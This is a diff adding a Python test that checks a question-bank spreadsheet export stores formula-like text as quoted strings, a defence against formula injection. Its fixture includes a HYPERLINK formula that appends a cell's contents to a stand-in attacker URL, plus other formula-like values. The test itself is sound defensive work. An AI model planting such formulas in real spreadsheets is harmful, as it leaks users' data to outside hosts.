@@ -138,3 +138,24 @@ def test_plan_report_export(client, login, plan_world):
     response = client.get("/plans/report.xlsx")
     assert response.status_code == 200
     _assert_defused(response.data, [plan_world["enterprise"].name, plan_world["person"].name])
+
+
+def test_the_question_bank_export_keeps_formula_like_text_as_text():
+    """A stem, an option or an explanation starting like a formula stays text in the export."""
+    from question_bank.rules.types import Option, QuestionDraft, QuestionType
+    from question_bank.spreadsheet import questions_workbook
+
+    hostile = [
+        QuestionDraft(
+            type=QuestionType.SINGLE,
+            stem='=HYPERLINK("http://evil.example/?"&A1,"点我")',
+            options=[Option("A", "+1+1"), Option("B", "@SUM(1)")],
+            answer="A",
+            explanation="-2+3",
+        )
+    ]
+    sheet = load_workbook(BytesIO(questions_workbook(hostile)))["试题"]
+    cells = [cell for cell in sheet[2] if isinstance(cell.value, str)]
+    risky = [cell for cell in cells if cell.value.startswith(("=", "+", "-", "@"))]
+    assert len(risky) == 4
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in risky)
